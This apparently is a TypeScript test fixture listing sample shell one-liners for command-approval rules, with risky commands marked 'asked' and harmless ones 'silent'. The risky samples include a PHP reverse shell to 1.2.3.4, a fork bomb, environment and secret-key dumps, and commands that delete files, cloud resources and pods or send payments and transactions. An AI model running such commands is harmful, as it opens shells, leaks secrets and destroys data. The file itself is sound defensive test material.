/** Samples of the rules beside this file, for their test only: no hook loads them. */
import type { Samples } from '../rule.js';

export const SAMPLES: Samples = {
  'code-chain': {
    asked: ['python -c "w3.eth.send_raw_transaction(x)"', 'node -e "wallet.sendTransaction({to:\'0x\',value:1})"'],
    silent: ["node -e 'console.log(await provider.getBalance(a))'"],
  },
  'code-payment': {
    asked: [
      'node -e "stripe.refunds.create({charge:\'x\'})"',
      'node -e "require(\'stripe\')(k).charges.create({amount:1})"',
    ],
    silent: ["node -e 'stripe.charges.list()'"],
  },
  'code-request': {
    asked: [
      "node -e \"fetch('https://api.example.com/x',{method:'DELETE'})\"",
      'python -c "import requests; requests.delete(\'https://api.example.com/x\')"',
    ],
    silent: ['python3 -c \'import requests; requests.get("https://a.dev")\''],
  },
  'code-runs-variable': {
    asked: ["perl -e 'system($ENV{X})'", 'node -e "eval(process.env.X)"'],
    silent: ["python3 -c 'import os; print(os.getcwd())'"],
  },
  'code-tells-finder': {
    asked: [
      'osascript -e \'tell application "Finder" to empty trash\'',
      'osascript -e \'tell app "Finder" to delete POSIX file "/Users/dev"\'',
    ],
    silent: ['osascript -e \'tell application "Finder" to activate\''],
  },
  'code-boto': {
    asked: [
      'python -c "import boto3; boto3.resource(\'ec2\').instances.terminate()"',
      "python -c \"import boto3; boto3.client('s3').delete_bucket(Bucket='x')\"",
    ],
    silent: ['python3 -c \'import boto3; boto3.client("s3").list_buckets()\''],
  },
  'code-kubernetes': {
    asked: ["python3 -c 'import kubernetes; api.delete_namespaced_pod(1)'"],
    silent: ["python3 -c 'import kubernetes; api.list_namespaced_pod(1)'"],
  },
  'code-fork-bomb': { asked: ["perl -e 'fork while 1'"], silent: ["python3 -c 'import os; os.getpid()'"] },
  'code-mail': {
    asked: ["python3 -c 'import smtplib; smtplib.SMTP()'"],
    silent: ["python3 -c 'import email; print(email.message_from_string(s))'"],
  },
  'code-remote-shell': {
    asked: ['php -r \'$s=fsockopen("1.2.3.4",80);exec("/bin/sh -i <&3 >&3 2>&3");\''],
    silent: ["python3 -c 'import socket; print(socket.gethostname())'"],
  },
  'code-environment': {
    asked: ["ruby -e 'puts ENV.to_h'", "php -r 'print_r(getenv());'"],
    silent: ['node -p process.env.HOME'],
  },
  'code-secret-variable': {
    asked: ['ruby -e \'p ENV["SECRET_KEY_BASE"]\'', 'php artisan tinker --execute=\'dump(env("APP_KEY"))\''],
    silent: ['ruby -e \'puts ENV["HOME"]\''],
  },
};
